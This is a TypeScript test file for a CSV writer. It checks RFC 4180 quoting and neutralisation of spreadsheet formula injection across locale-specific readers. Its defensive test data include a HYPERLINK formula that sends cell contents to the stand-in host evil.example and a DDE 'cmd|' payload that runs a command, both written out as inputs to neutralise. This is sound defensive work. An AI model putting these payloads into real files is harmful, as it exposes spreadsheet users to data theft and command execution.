/** The CSV writer, read back by an independent RFC 4180 parser (csv-parse), as a spreadsheet would. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, toCsv } from '../../../../src/main/exports/csv.js';

const readBack = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });

describe('CSV cells (RFC 4180)', () => {
  it('quotes a cell only when it holds a comma, a quote, CR or LF, doubling its quotes', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('')).toBe('');
  });

  it('starts with a BOM, ends every record in CRLF, and reads back cell for cell', () => {
    const rows = [
      ['Données, été', 'say "hi"'],
      ['日本語のキー 🔑', 'line one\nline two'],
      ['', 'trailing space '],
    ];
    const csv = toCsv(['Name', 'Note'], rows);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe('Name,Note');
    expect(readBack(csv)).toEqual([['Name', 'Note'], ...rows]);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('refuses a row whose cell count differs from the header', () => {
    expect(() => toCsv(['a', 'b'], [['only one']])).toThrow('1 cells for 2 columns');
  });

  it('any text survives the round trip; the only change is an apostrophe before a formula character', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary-ascii' })), { maxLength: 20 }), (pairs) => {
        const rows = pairs.map(([a, b]) => [a, b]);
        const back = readBack(toCsv(['A', 'B'], rows)).slice(1);
        expect(back).toHaveLength(rows.length);
        back.forEach((row, r) =>
          row.forEach((cell, c) => {
            const sent = rows[r]![c]!;
            expect(cell.replaceAll("'", '')).toBe(sent.replaceAll("'", ''));
            if (!/[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\0]/.test(sent)) expect(cell).toBe(sent);
          }),
        );
      }),
    );
  });
});

describe('formula injection', () => {
  const leads: [string, string][] = [
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
    ['+', '+1'],
    ['-', '-2+3'],
    ['@', '@SUM(1,2)'],
    ['tab', '\tplain'],
    ['CR', '\rplain'],
    ['full-width =', '\uff1d1+1'],
    ['full-width +', '\uff0b1'],
    ['full-width -', '\uff0d1'],
    ['full-width @', '\uff20SUM(1)'],
  ];

  it.each(leads)('a cell starting with %s is written as text (a leading apostrophe)', (_lead, value) => {
    const back = readBack(toCsv(['Name'], [[value]]));
    expect(back[1]).toEqual([`'${value}`]);
  });

  it('a tab or CR then a formula: a leading apostrophe, and one after the tab or CR (where a reader splitting there starts its cell)', () => {
    expect(readBack(toCsv(['Name'], [['\t=1+1'], ['\r=1+1']])).slice(1)).toEqual([[`'\t'=1+1`], [`'\r'=1+1`]]);
  });

  it('leaves cells that merely contain those characters alone', () => {
    for (const value of ['a=b', 'x+1', 'rkr_key_…AB12', 'ops@example.com', '2026-11-30 21:41:07', 'a; b', 'a;b=c']) {
      expect(readBack(toCsv(['Name'], [[value]]))[1]).toEqual([value]);
    }
  });
});

/**
 * Issue 18 (2): the file read the way other readers read it. Excel in locales whose list separator is
 * `;` splits every line at `;` and honours a quote only where its own cell starts; a quote-blind reader
 * splits at `;` and line breaks as they come; a TSV import or a paste splits at tabs. However a reader
 * cuts a line, no cell it makes may start (after whitespace) with a formula character.
 */
describe('formula injection through a reader that splits at ; (de-DE, fr-FR), tabs or line breaks', () => {
  const PAYLOAD = "x;=cmd|' /C calc'!A0;";
  const FORMULA_FIRST = /^[=+\-@\uff1d\uff0b\uff0d\uff20]/;
  /** As Excel reads: a quote only where a cell starts, and a quote never closed runs to the end of the file. */
  const quoteWhereCellStarts = (delimiter: string) => (csv: string) => {
    const options = { bom: true, delimiter, relax_quotes: true, relax_column_count: true };
    try {
      return parse(csv, options) as string[][];
    } catch (error) {
      if ((error as { code?: string }).code !== 'CSV_QUOTE_NOT_CLOSED') throw error;
      return parse(`${csv}"`, options) as string[][];
    }
  };
  const readers: [string, (csv: string) => string[][]][] = [
    [', (RFC 4180)', (csv) => parse(csv, { bom: true })],
    ['; honouring quotes where a cell starts', quoteWhereCellStarts(';')],
    ['; ignoring quotes', (csv) => parse(csv, { bom: true, delimiter: ';', quote: false, relax_column_count: true })],
    ['tab honouring quotes where a cell starts', quoteWhereCellStarts('\t')],
    ['tab ignoring quotes', (csv) => parse(csv, { bom: true, delimiter: '\t', quote: false, relax_column_count: true })],
  ];
  const unprotected = (cells: string[][]) => cells.flat().filter((cell) => FORMULA_FIRST.test(cell.trim()));

  it.each(readers)('the payload in any column reaches no formula cell when read with %s', (_reader, read) => {
    for (let column = 0; column < 4; column++) {
      const row = ['Nightly sync', 'rkr_key_…Ab3x', 'Read records; Write records', 'ops@example.com'];
      row[column] = PAYLOAD;
      const csv = toCsv(['A', 'B', 'C', 'D'], [row, ['next', 'row', '=1+1', ' @SUM(1)']]);
      expect(unprotected(read(csv)), `column ${column}`).toEqual([]);
    }
  });

  it('quoting alone would not do: the same row with only RFC 4180 quoting gives Excel (;) a formula cell', () => {
    const rfcOnly = `${['Nightly sync', `"${PAYLOAD.replaceAll('"', '""')}"`].join(',')}\r\n`;
    expect(unprotected(readers[1]![1](rfcOnly))).toEqual(["=cmd|' /C calc'!A0"]);
  });

  it('a cell holding ; or a tab, or starting or ending with whitespace, is quoted', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell(' lead')).toBe('" lead"');
    expect(csvCell('trail ')).toBe('"trail "');
    expect(csvCell('\u3000ideographic')).toBe('"\u3000ideographic"');
    expect(csvCell(PAYLOAD)).toBe(`"x;'=cmd|' /C calc'!A0;"`);
  });

  it('the formula guard looks past leading whitespace and quotes', () => {
    expect(csvCell(' =1+1')).toBe(`" '=1+1"`);
    expect(csvCell('\u00a0\u3000+1')).toBe(`"\u00a0\u3000'+1"`);
    expect(csvCell('a; "=1')).toBe(`"a; ""'=1"`);
    expect(csvCell('a\r\n-1')).toBe(`"a\r\n'-1"`);
    expect(csvCell('\0=1')).toBe(`'\0=1`);
  });

  it('property: any names in any columns, read by every reader, give no formula cell', () => {
    const dangerous = fc.constantFrom(
      ';',
      ',',
      '"',
      "'",
      '\t',
      '\r',
      '\n',
      '\r\n',
      ' ',
      '\u00a0',
      '\u3000',
      '=',
      '+',
      '-',
      '@',
      '\uff1d',
      '\uff0b',
      '\uff0d',
      '\uff20',
      '\0',
      'x',
      'cmd|',
      'A0',
      '日本',
    );
    const name = fc.oneof(
      fc.array(dangerous, { maxLength: 12 }).map((parts) => parts.join('')),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(fc.array(name, { minLength: 4, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const csv = toCsv(['A', 'B', 'C', 'D'], rows);
        for (const [reader, read] of readers) expect(unprotected(read(csv)), reader).toEqual([]);
        // The RFC 4180 reading keeps the cells whole: the only change is the apostrophes added.
        const back = readers[0]![1](csv).slice(1);
        expect(back.map((row) => row.map((cell) => cell.replaceAll("'", '')))).toEqual(rows.map((row) => row.map((cell) => cell.replaceAll("'", ''))));
      }),
      { numRuns: 500 },
    );
  });
});
